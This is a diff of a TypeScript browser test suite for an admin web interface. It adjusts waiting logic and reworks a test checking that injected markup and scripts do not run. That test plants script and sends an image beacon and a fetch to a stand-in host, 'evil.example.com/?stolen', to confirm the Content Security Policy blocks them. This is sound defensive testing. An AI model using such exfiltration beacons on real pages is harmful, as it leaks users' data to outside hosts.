@@ -4,6 +4,8 @@ import { accessibilityProblems, noBrowser, openBrowser, openPage } from './brows
 import { playDemo } from './demo.ts'
 import { openStage, signIn } from './stage.ts'
 
+t.setTimeout(900_000)
+
 t.test('every page', { skip: noBrowser }, async t => {
   const stage = await openStage({ OPENAI_API_KEY: 'sk-demo' })
   t.teardown(stage.stop)
@@ -39,7 +41,7 @@ t.test('every page', { skip: noBrowser }, async t => {
     dark: { colorScheme: 'dark' },
     narrow: { width: 400, height: 800 },
   } as const)) {
-    const { page, problems } = await openPage(browser, stage.adminUrl, options)
+    const { page, problems, settled } = await openPage(browser, stage.adminUrl, options)
     await page.goto(stage.adminUrl)
     await page.getByLabel('Admin token').waitFor()
     t.same(await accessibilityProblems(page), [], `signing in, ${view}`)
@@ -55,7 +57,7 @@ t.test('every page', { skip: noBrowser }, async t => {
         await follow(page, path)
       }
       await page.getByText(text).first().waitFor({ state: 'attached' })
-      await page.locator('.loading').waitFor({ state: 'detached' })
+      await settled()
       t.same(await accessibilityProblems(page), [], `/${path}, ${view}`)
       t.same(problems.splice(0), [], `/${path}, ${view}: nothing went wrong`)
       const overflow = await page.evaluate('document.documentElement.scrollWidth - innerWidth')
@@ -91,7 +93,7 @@ t.test('scripts that somebody brings in do not run', { skip: noBrowser }, async 
     readonly id: string
   }
   await stage.ask(key, '/v1/responses', { model: markup, input: 'x' })
-  const { page, problems } = await openPage(browser, stage.adminUrl)
+  const { page, problems, settled } = await openPage(browser, stage.adminUrl)
   await signIn(page, stage)
   const places = [
     '',
@@ -110,21 +112,22 @@ t.test('scripts that somebody brings in do not run', { skip: noBrowser }, async 
     `playground?key=${id}&model=${encodeURIComponent(markup)}`,
   ]) {
     await page.goto(`${stage.adminUrl}/${path}`)
+    await page.getByRole('heading', { level: 1 }).waitFor()
+    await settled()
+    if (path.includes('record=')) {
+      await page.getByRole('button', { name: 'Open the content' }).click()
+      await page.getByRole('region', { name: 'Body of the request' }).waitFor()
+    }
     await page.waitForLoadState('networkidle')
-    if (path.includes('record='))
-      await page
-        .getByRole('button', { name: 'Open the content' })
-        .click()
-        .then(() => page.waitForLoadState('networkidle'))
     t.equal(await page.evaluate('window.injected'), undefined, path)
   }
   t.same(problems.splice(0), [], 'all of it is text')
 
   await page.goto(stage.adminUrl)
   await page.getByRole('heading', { level: 1 }).waitFor()
-  const blocked = await page.evaluate(async () => {
+  await page.evaluate(async () => {
     const { document, Image } = globalThis as any
-    const violations: string[] = []
+    const violations = ((globalThis as any).violations = [] as string[])
     document.addEventListener('securitypolicyviolation', (event: any) => violations.push(event.effectiveDirective))
     const script = document.createElement('script')
     script.textContent = 'window.injected = true'
@@ -140,10 +143,9 @@ t.test('scripts that somebody brings in do not run', { skip: noBrowser }, async 
     new Image().src = 'https://evil.example.com/?stolen'
     await fetch('https://evil.example.com/').catch(() => {})
     document.querySelector('#trap').click()
-    await new Promise(resolve => setTimeout(resolve, 300))
-    return violations
   })
-  t.equal(await page.evaluate('window.injected'), undefined)
+  const isBlocked = (directive: string): boolean => (globalThis as any).violations.includes(directive)
   for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'img-src', 'frame-src'])
-    t.ok(blocked.includes(directive), `${directive} was blocked`)
+    await t.resolves(page.waitForFunction(isBlocked, directive), `${directive} was blocked`)
+  t.equal(await page.evaluate('window.injected'), undefined)
 })
